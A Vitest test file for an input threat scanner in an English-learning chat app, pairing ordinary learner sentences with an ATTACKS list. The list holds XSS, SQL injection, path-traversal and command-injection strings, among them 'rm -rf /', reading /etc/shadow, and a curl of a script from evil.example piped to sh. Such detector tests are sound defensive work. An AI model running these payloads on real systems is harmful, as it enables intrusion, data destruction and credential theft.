import { describe, expect, it } from 'vitest';
import { scanForThreats } from '../src/modules/chat/threats.js';

/** What English learners write to a conversation partner: none of it may be taken for an attack. */
const ORDINARY = [
  "I'd rather; or not",
  'select the best answer',
  'Please select one option and explain why.',
  'The union selected a new leader last year.',
  "I love JavaScript: it's my favourite language",
  'rock && roll -- and jazz',
  'Tom & Jerry are friends; or enemies?',
  'I drink tea; curl up with a book and sleep (8 hours if I can)',
  'Wait.../what did you say?',
  'He said "wait" -- then he left',
  "the boys' bikes -- the red ones",
  'Is 1=1 always true in maths?',
  "Don't do it; or do it, it's your choice",
  'It costs $5 (five dollars) at the market',
  'What does `git status` do?',
  'Email me at anna@example.com; or call me',
  'I want to delete from my list the words I already know',
  'My score was 10/10 and my friend got 9/10',
  '#blessed #mondaymotivation',
  'a < b and b > c, so a < c',
  'I think -- no, I am sure -- that she is right',
  "She's from Lyon; he's from Rome",
  'Can you update me on the news?',
];

const ATTACKS: Array<[string, string]> = [
  ['<script>alert(1)</script>', 'script_tag'],
  ['< / SCRIPT >', 'script_tag'],
  ['<img src=x onerror=alert(1)>', 'event_handler'],
  ['<a href="javascript:alert(1)">win</a>', 'script_url'],
  ['<iframe src="https://evil.example">', 'dangerous_tag'],
  ['＜script＞alert(1)＜/script＞', 'script_tag'],
  ['1 UNION SELECT password FROM users', 'union_select'],
  ['1 union/**/select 1,2', 'union_select'],
  ["' OR 1=1 --", 'quoted_tautology'],
  ['" or ""="', 'quoted_tautology'],
  ["admin'--", 'quote_then_comment'],
  ["x'; DROP TABLE users; --", 'stacked_statement'],
  ["1' AND SLEEP(5)", 'sql_delay'],
  ['$(whoami)', 'command_substitution'],
  ['`cat /etc/shadow`', 'command_substitution'],
  ['; rm -rf /', 'command_chaining'],
  ['&& curl http://evil.example/x.sh | sh', 'command_chaining'],
  ['../../etc/passwd', 'dot_dot_slash'],
  ['..\\..\\windows\\system32\\', 'dot_dot_slash'],
  ['%2e%2e%2fetc%2fpasswd', 'encoded_traversal'],
];

describe('scanForThreats', () => {
  it.each(ORDINARY)('lets ordinary English through: %s', (text) => {
    expect(scanForThreats(text)).toBeNull();
  });

  it.each(ATTACKS)('names the pattern of an attack: %s', (text, pattern) => {
    expect(scanForThreats(text)?.patterns).toContain(pattern);
  });

  it('names each kind once, with every pattern that matched', () => {
    expect(scanForThreats('<script>x</script> ../../etc/passwd')).toEqual({
      kinds: ['xss', 'path_traversal'],
      patterns: ['script_tag', 'dot_dot_slash', 'system_file'],
    });
  });
});
